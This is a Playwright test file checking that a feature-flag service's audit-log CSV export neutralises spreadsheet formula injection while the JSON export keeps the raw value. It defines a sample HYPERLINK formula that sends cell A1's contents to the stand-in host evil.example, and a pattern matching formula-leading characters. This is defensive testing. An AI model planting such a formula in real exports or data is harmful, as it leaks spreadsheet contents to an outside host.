import { expect } from '@playwright/test';
import { AuditPage } from '../pages/audit-page.js';
import { adminOf } from '../support/admin.js';
import { readCsv } from '../support/csv.js';
import { test } from '../support/people.js';

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';

test('the audit log is taken along as CSV and as JSON, and no spreadsheet runs what people wrote into it', async ({
  house,
  people,
}) => {
  await house.admin.createFlag('other-flag');
  const ada = await people.owner();
  const made = await ada.ask('POST', '/api/v1/tokens', { name: formula, role: 'editor', kind: 'service' });
  const program = adminOf(house.url, (made as { readonly token: string }).token);
  await program.createFlag('new-billing', { description: formula });
  await program.setEnabled('new-billing', true);

  const audit = new AuditPage(ada.page);
  await audit.open();
  await audit.narrowTo('new-billing');
  await expect(audit.records).toHaveCount(2);
  const csv = await audit.export('CSV');
  const json = await audit.export('JSON');

  expect(csv.name).toMatch(/^guidon-audit-\d{4}-\d\d-\d\d\.csv$/);
  const lines = readCsv(csv.text);
  expect(lines).toMatchObject([
    { action: 'flag.create', subjectKey: 'new-billing', actorName: `'${formula}` },
    { action: 'flag.configure', subjectKey: 'new-billing', environment: 'development' },
  ]);
  expect(lines.flatMap((line) => Object.values(line)).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

  expect(json.name).toMatch(/^guidon-audit-\d{4}-\d\d-\d\d\.json$/);
  expect(JSON.parse(json.text)).toMatchObject([
    { action: 'flag.create', after: { description: formula } },
    { action: 'flag.configure', subject: { key: 'new-billing' } },
  ]);
});
